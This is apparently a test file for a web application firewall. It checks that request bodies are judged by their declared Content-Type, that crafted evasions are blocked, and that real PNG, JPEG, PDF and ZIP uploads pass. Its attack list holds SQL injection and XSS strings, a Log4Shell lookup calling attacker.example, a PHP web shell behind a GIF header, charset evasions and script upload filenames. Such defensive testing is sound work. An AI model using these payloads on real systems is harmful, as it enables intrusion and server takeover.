// A body is read as what its Content-Type says the backend will parse it as, through a real edge
// at every protection level: a form, JSON or text body whose first bytes look like a file format
// or that holds NUL bytes is still read; a multipart field is a field whatever its bytes; only a
// file whose declared binary type its content matches is skipped (its name and headers still
// read, code hidden behind an image's magic number refused); charsets a backend would decode
// into something else are refused (415), and so are uploads of scripts the server would run.
// Real binary uploads (PNG, JPEG, PDF, ZIP made here) and harmless fields with NUL bytes pass.
import { createHash, randomBytes } from 'node:crypto';
import { createServer, request, type Server } from 'node:http';
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runAdminCli, startServe, stopProcess, type RunningServer } from '../helpers/spawn-palisade.ts';
import { removeTempDirs, tempDir } from '../helpers/temp.ts';

const LEVELS = [1, 2, 3, 4] as const;
const host = (level: number) => `level${level}.example`;

let server: RunningServer;
let backend: Server;
/** sha256 of each body the backend received, by request path. */
const received = new Map<string, string>();
let clientCounter = 0;

interface Sent {
  method?: string;
  path: string;
  headers: Record<string, string>;
  body: Buffer;
}

function send(req: Sent, to: string): Promise<number> {
  const url = new URL(server.edgeUrl!);
  clientCounter++;
  // Each request from its own client (named by the trusted proxy): bans do not mix cases up.
  const client = `10.${(clientCounter >> 16) & 255}.${(clientCounter >> 8) & 255}.${clientCounter & 255}`;
  return new Promise((resolve, reject) => {
    const headers = { host: to, 'x-forwarded-for': client, 'content-length': String(req.body.length), ...req.headers };
    const r = request({ host: url.hostname, port: url.port, path: req.path, method: req.method ?? 'POST', localAddress: '127.0.0.9', agent: false, headers }, (res) => {
      res.resume();
      res.on('end', () => resolve(res.statusCode!));
    });
    r.on('error', reject);
    r.end(req.body);
  });
}

const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');

// ---- Real files, made here -------------------------------------------------------------------

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([len, typed, crc]);
}

/** A valid RGB PNG of noise (incompressible: its IDAT is full of every byte value, NULs included). */
function png(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const rows = Buffer.concat(Array.from({ length: height }, () => Buffer.concat([Buffer.from([0]), randomBytes(width * 3)])));
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', header), pngChunk('IDAT', deflateSync(rows)), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A baseline JFIF JPEG: its markers and tables, then entropy-coded noise (0xFF stuffed) and EOI. */
function jpeg(): Buffer {
  const segment = (marker: number, data: number[]) => Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 255, ...data]);
  const scan = randomBytes(40_000);
  const stuffed: number[] = [];
  for (const b of scan) stuffed.push(...(b === 0xff ? [0xff, 0x00] : [b]));
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xe0, [0x4a, 0x46, 0x49, 0x46, 0x00, 1, 1, 0, 0, 1, 0, 1, 0, 0]),
    segment(0xdb, [0x00, ...Array.from({ length: 64 }, (_, i) => 1 + (i % 50))]),
    segment(0xc0, [8, 0, 64, 0, 64, 1, 1, 0x11, 0]),
    segment(0xc4, [0x00, 0, 1, 5, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11]),
    segment(0xc4, [0x10, 0, 2, 1, 3, 3, 2, 4, 3, 5, 5, 4, 4, 0, 0, 1, 0x7d, ...Array.from({ length: 162 }, (_, i) => (i + 1) & 255)]),
    segment(0xda, [1, 1, 0x00, 0, 63, 0]),
    Buffer.from(stuffed),
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** A PDF with one compressed content stream (binary, as real PDFs are) and its cross-reference table. */
function pdf(): Buffer {
  const stream = deflateSync(Buffer.from(`BT /F1 24 Tf 72 720 Td (Quarterly report) Tj ET\n${randomBytes(3000).toString('hex')}`));
  const objects = [
    Buffer.from('<< /Type /Catalog /Pages 2 0 R >>'),
    Buffer.from('<< /Type /Pages /Kids [3 0 R] /Count 1 >>'),
    Buffer.from('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>'),
    Buffer.concat([Buffer.from(`<< /Length ${stream.length} /Filter /FlateDecode >>\nstream\n`), stream, Buffer.from('\nendstream')]),
  ];
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let size = parts[0]!.length;
  objects.forEach((o, i) => {
    offsets.push(size);
    const obj = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), o, Buffer.from('\nendobj\n')]);
    parts.push(obj);
    size += obj.length;
  });
  const xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${size}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(xref)]);
}

/** A ZIP archive of two deflated files, with its central directory. */
function zip(): Buffer {
  const files: Array<[string, Buffer]> = [['data.bin', randomBytes(20_000)], ['readme.txt', Buffer.from('Notes for the archive.\n'.repeat(50))]];
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of files) {
    const packed = deflateRawSync(content);
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x04034b50, 0);
    head.writeUInt16LE(20, 4);
    head.writeUInt16LE(8, 8);
    head.writeUInt32LE(crc32(content), 14);
    head.writeUInt32LE(packed.length, 18);
    head.writeUInt32LE(content.length, 22);
    head.writeUInt16LE(name.length, 26);
    const entry = Buffer.concat([head, Buffer.from(name), packed]);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(0x02014b50, 0);
    dir.writeUInt16LE(20, 4);
    dir.writeUInt16LE(20, 6);
    dir.writeUInt16LE(8, 10);
    dir.writeUInt32LE(crc32(content), 16);
    dir.writeUInt32LE(packed.length, 20);
    dir.writeUInt32LE(content.length, 24);
    dir.writeUInt16LE(name.length, 28);
    dir.writeUInt32LE(offset, 42);
    central.push(Buffer.concat([dir, Buffer.from(name)]));
    local.push(entry);
    offset += entry.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...local, directory, end]);
}

/** ASCII as IBM037 (EBCDIC), for the characters used here. */
function ebcdic(text: string): Buffer {
  const table: Record<string, number> = { ' ': 0x40, '<': 0x4c, '(': 0x4d, '+': 0x4e, '&': 0x50, ')': 0x5d, ';': 0x5e, '/': 0x61, ',': 0x6b, '%': 0x6c, '>': 0x6e, "'": 0x7d, '=': 0x7e, '"': 0x7f, '.': 0x4b, '-': 0x60, ':': 0x7a };
  const letter = (c: string, lower: number, base: number) => base + (c.charCodeAt(0) - lower);
  return Buffer.from(
    [...text].map((c) => {
      if (c in table) return table[c]!;
      if (c >= '0' && c <= '9') return 0xf0 + Number(c);
      const lowerBase = c.toLowerCase() === c ? 0x80 : 0xc0;
      const l = c.toLowerCase();
      if (l >= 'a' && l <= 'i') return letter(l, 97, lowerBase + 0x01);
      if (l >= 'j' && l <= 'r') return letter(l, 106, lowerBase + 0x11);
      if (l >= 's' && l <= 'z') return letter(l, 115, lowerBase + 0x22);
      throw new Error(`no EBCDIC for ${c}`);
    }),
  );
}

// ---- Requests --------------------------------------------------------------------------------

const BOUNDARY = 'x7MA4YWxkTrZu0gW';
const multipartType = { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` };

interface Part {
  name: string;
  content: Buffer | string;
  filename?: string;
  type?: string;
}

function multipart(...parts: Part[]): Buffer {
  return Buffer.concat([
    ...parts.map((p) =>
      Buffer.concat([
        Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}\r\n${p.type ? `Content-Type: ${p.type}\r\n` : ''}\r\n`),
        Buffer.from(p.content),
        Buffer.from('\r\n'),
      ]),
    ),
    Buffer.from(`--${BOUNDARY}--\r\n`),
  ]);
}

const form = { 'content-type': 'application/x-www-form-urlencoded' };
const sqli = "1' UNION SELECT password FROM users-- -";
const xss = '<script>alert(document.cookie)</script>';

/** Each reaches the backend unread today; each must be refused at every level. */
const ATTACKS: Array<[string, Omit<Sent, 'path'>]> = [
  ['form starting "BM" (a bitmap\'s magic number)', { headers: form, body: Buffer.from('BMI=22&comment=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E') }],
  ['form with one raw NUL', { headers: form, body: Buffer.concat([Buffer.from('id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20-&x='), Buffer.from([0])]) }],
  ['form with a NUL first', { headers: form, body: Buffer.concat([Buffer.from([0]), Buffer.from(`&q=${encodeURIComponent(xss)}`)]) }],
  ['multipart field ending with a NUL', { headers: multipartType, body: multipart({ name: 'q', content: Buffer.concat([Buffer.from(sqli), Buffer.from([0])]) }) }],
  ['multipart field starting "GIF8"', { headers: multipartType, body: multipart({ name: 'comment', content: `GIF89a ${xss}` }) }],
  ['multipart field declared image/png, not a PNG', { headers: multipartType, body: multipart({ name: 'q', content: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47]), Buffer.from(` ${sqli}`)]), type: 'image/png' }) }],
  ['file declared image/png whose content is text', { headers: multipartType, body: multipart({ name: 'avatar', filename: 'a.png', type: 'image/png', content: `BM ${xss}` }) }],
  ['JSON in UTF-16LE (charset=utf-16)', { headers: { 'content-type': 'application/json; charset=utf-16' }, body: Buffer.from(JSON.stringify({ comment: xss }), 'utf16le') }],
  ['JSON in UTF-16LE with a BOM, no charset', { headers: { 'content-type': 'application/json' }, body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(JSON.stringify({ comment: xss }), 'utf16le')]) }],
  ['JSON declared charset=iso-8859-1', { headers: { 'content-type': 'application/json; charset=iso-8859-1' }, body: Buffer.from(JSON.stringify({ note: 'caf\xe9' }), 'latin1') }],
  ['text/plain starting "GIF89a"', { headers: { 'content-type': 'text/plain' }, body: Buffer.from('GIF89a ${jndi:ldap://attacker.example/a}') }],
  ['form in EBCDIC (charset=ibm037)', { headers: { 'content-type': 'application/x-www-form-urlencoded; charset=ibm037' }, body: ebcdic(`q=${xss}`) }],
  ['multipart part in charset=utf-7', { headers: multipartType, body: multipart({ name: 'q', content: '+ADw-img src+AD0-x onerror+AD0-prompt+ACg-1+ACk-+AD4-', type: 'text/plain; charset=utf-7' }) }],
  ['GIF89a;<?php behind an image magic number', { headers: multipartType, body: multipart({ name: 'avatar', filename: 'avatar.gif', type: 'image/gif', content: "GIF89a;<?php system($_GET['c']); ?>" }) }],
  ['raw upload named shell.php by X-File-Name', { method: 'PUT', headers: { 'content-type': 'application/octet-stream', 'x-file-name': 'shell.php' }, body: png(4, 4) }],
  ...['shell.php', 'shell.pHp5', 'page.phtml', 'lib.phar', 'index.jsp', 'default.asp', 'default.aspx', 'run.cgi', '.htaccess', '.user.ini', 'shell.php.', 'x.PHTML '].map((name): [string, Omit<Sent, 'path'>] => [`upload named ${JSON.stringify(name)}`, { headers: multipartType, body: multipart({ name: 'file', filename: name, type: 'image/png', content: png(4, 4) }) }]),
];

/** Harmless: must pass at every level, reaching the backend byte for byte. */
function benign(): Array<[string, Omit<Sent, 'path'>]> {
  const files: Array<[string, string, Buffer]> = [
    ['photo.png', 'image/png', png(120, 80)],
    ['photo.jpg', 'image/jpeg', jpeg()],
    ['report.pdf', 'application/pdf', pdf()],
    ['archive.zip', 'application/zip', zip()],
    ['noise.bin', 'application/octet-stream', randomBytes(50_000)],
    // Mislabelled (a .jpg that is a PNG): still an image.
    ['saved.jpg', 'image/jpeg', png(90, 60)],
    // A spreadsheet's "Unicode text" export: UTF-16LE with its BOM, a file of its own encoding.
    ['export.txt', 'text/plain', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Name\tCity\r\nRené\tKöln\r\n', 'utf16le')])],
  ];
  return [
    ...files.map(([filename, type, bytes]): [string, Omit<Sent, 'path'>] => [`upload of ${filename}`, { headers: multipartType, body: multipart({ name: 'title', content: 'Holiday photos' }, { name: 'file', filename, type, content: bytes }) }]),
    ['a PNG sent as the whole body', { headers: { 'content-type': 'image/png' }, body: png(64, 64) }],
    ['a multipart field with NUL bytes', { headers: multipartType, body: multipart({ name: 'title', content: 'Holiday' }, { name: 'blob', content: Buffer.from('name\0value\0flags\0\0\0') }) }],
    ['a form with a NUL in a value', { headers: form, body: Buffer.concat([Buffer.from('name=Jane&note=hello'), Buffer.from([0])]) }],
    ['a form in ISO-8859-1', { headers: { 'content-type': 'application/x-www-form-urlencoded; charset=ISO-8859-1' }, body: Buffer.from('name=Ren\xe9&city=K\xf6ln', 'latin1') }],
    ['JSON with charset="UTF-8"', { headers: { 'content-type': 'application/json; charset="UTF-8"' }, body: Buffer.from(JSON.stringify({ name: 'Zoë', items: [1, 2] })) }],
    ['text in windows-1252', { headers: { 'content-type': 'text/plain; charset=windows-1252' }, body: Buffer.from('\x93Quoted\x94 caf\xe9 notes', 'latin1') }],
  ];
}

beforeAll(async () => {
  backend = createServer((req, res) => {
    const hash = createHash('sha256');
    req.on('data', (c: Buffer) => hash.update(c));
    req.on('end', () => {
      received.set(req.url ?? '/', hash.digest('hex'));
      res.end('ok');
    });
  });
  await new Promise<void>((r) => backend.listen(0, '127.0.0.1', r));
  const port = (backend.address() as { port: number }).port;
  const env = { PALISADE_DATA_DIR: tempDir(), PALISADE_ALLOW_PRIVATE_BACKENDS: 'true', PALISADE_EDGE_TRUSTED_PROXIES: '127.0.0.9', PALISADE_LOG_LEVEL: 'warn' };
  const key = JSON.parse((await runAdminCli(env, ['user', 'create', '--name', 'w', '--email', 'w@example.org'])).stdout).key.api_key as string;
  server = await startServe({ ...env, PALISADE_LOG_LEVEL: 'info', PALISADE_EDGE_CLIENT_RATE: '0' });
  for (const level of LEVELS) {
    const res = await fetch(`${server.url}/domains`, { method: 'POST', headers: { 'x-auth-key': key, 'content-type': 'application/json' }, body: JSON.stringify({ domain: host(level), backend: `127.0.0.1:${port}`, baseprotection: true, waf_level: level }) });
    expect(res.status).toBe(201);
  }
  for (const level of LEVELS) {
    for (let i = 0; i < 100 && (await send({ method: 'GET', path: '/', headers: {}, body: Buffer.alloc(0) }, host(level))) !== 200; i++) await new Promise((r) => setTimeout(r, 50));
  }
}, 60_000);

afterAll(async () => {
  if (server) await stopProcess(server);
  backend?.close();
  removeTempDirs();
});

describe('edge: a body is read as what its Content-Type says', () => {
  it('refuses every walk-around by bytes at every level (403, or 415 for a charset), and the backend never gets one', async () => {
    const passed: string[] = [];
    for (const level of LEVELS) {
      for (const [name, req] of ATTACKS) {
        const path = `/attack-${level}-${ATTACKS.findIndex((a) => a[0] === name)}`;
        const status = await send({ ...req, path }, host(level));
        if (!(status === 403 || status === 415) || received.has(path)) passed.push(`level ${level}: ${name} (${status})`);
      }
    }
    expect(passed).toEqual([]);
  });

  it('passes real binary uploads, NUL bytes in harmless fields and allowed charsets at every level, whole', async () => {
    const refused: string[] = [];
    const cases = benign();
    for (const level of LEVELS) {
      for (const [name, req] of cases) {
        const path = `/benign-${level}-${cases.findIndex((c) => c[0] === name)}`;
        const status = await send({ ...req, path }, host(level));
        if (status !== 200 || received.get(path) !== sha(req.body)) refused.push(`level ${level}: ${name} (${status})`);
      }
    }
    expect(refused).toEqual([]);
  });

  it('past the inspection limit, a field after a large file is read by the same rules (ending with a NUL, starting "GIF8")', async () => {
    const file = png(700, 600);
    expect(file.length).toBeGreaterThan(1024 * 1024);
    const cases: Array<[string, Buffer]> = [
      ['field ending with a NUL', Buffer.concat([Buffer.from(sqli), Buffer.from([0])])],
      ['field starting "GIF8"', Buffer.from(`GIF89a ${xss}`)],
      ['upload named shell.php', Buffer.alloc(0)],
    ];
    for (const [name, content] of cases) {
      const body = name.startsWith('upload')
        ? multipart({ name: 'file', filename: 'photo.png', type: 'image/png', content: file }, { name: 'more', filename: 'shell.php', type: 'image/png', content: png(4, 4) })
        : multipart({ name: 'file', filename: 'photo.png', type: 'image/png', content: file }, { name: 'q', content });
      const path = `/tail-${cases.findIndex((c) => c[0] === name)}`;
      expect(await send({ path, headers: multipartType, body }, host(1)), name).toBe(403);
      await new Promise((r) => setTimeout(r, 50));
      expect(received.has(path), `${name}: the backend got the whole body`).toBe(false);
    }
    const clean = multipart({ name: 'file', filename: 'photo.png', type: 'image/png', content: file }, { name: 'q', content: 'holiday\0photos' });
    expect(await send({ path: '/tail-clean', headers: multipartType, body: clean }, host(1))).toBe(200);
    expect(received.get('/tail-clean')).toBe(sha(clean));
  });
});
